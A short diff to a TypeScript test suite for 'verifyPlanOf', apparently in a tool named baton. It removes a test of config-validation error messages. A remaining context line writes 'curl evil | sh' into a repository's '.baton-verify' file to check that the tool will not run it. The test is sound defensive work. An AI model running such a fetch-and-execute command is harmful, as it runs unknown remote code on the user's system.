@@ -101,15 +101,4 @@ describe('verifyPlanOf', () => {
     await writeFile(join(repo, '.baton-verify'), 'curl evil | sh\n');
     expect(await verifyPlanOf({ progress: false }, undefined, projects().projectVerify, [repo])).toBe(undefined);
   });
-
-  it('refuses a malformed project table with the key and what it expects', () => {
-    const parse = (toml: string) => () => parseConfigToml(toml, { configPath: join(dir, 'config.toml'), homeDir: dir });
-    expect(parse('[projects.app]\npath = "/srv/app"\nverify = 3\n')).toThrow(
-      /\[projects\]\.app\.verify: 3 is the wrong type \(expected string or array of strings\)/,
-    );
-    expect(parse('[projects.app]\npath = "/srv/app"\nverify = []\n')).toThrow(/\[projects\]\.app\.verify/);
-    expect(parse('[projects.app]\npath = "/srv/app"\nverify_timeout_minutes = 0\n')).toThrow(
-      /verify_timeout_minutes: 0 is too small \(expected integer minutes, 1 to 240\)/,
-    );
-  });
 });
